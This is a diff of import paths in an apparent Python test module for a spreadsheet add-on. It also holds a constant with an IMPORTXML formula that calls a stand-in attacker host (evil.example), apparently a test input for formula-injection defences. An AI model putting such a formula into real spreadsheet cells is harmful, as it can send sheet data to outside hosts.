@@ -11,12 +11,12 @@ from typing import Any
 import pytest
 
 from addon.config import Config
-from addon.domain.demo import demo_deals
+from addon.demo.deals import demo_deals
+from addon.demo.play import play_buyers
 from addon.domain.plan_request import build_plan_request
-from addon.localgoogle.server import Running
 from addon.services.consolidate import Consolidator
 from addon.services.context import Services, today
-from addon.services.demo import play_buyers
+from localgoogle.server import Running
 
 FORMULA_TEXT = '=IMPORTXML("http://evil.example","//a")'
 
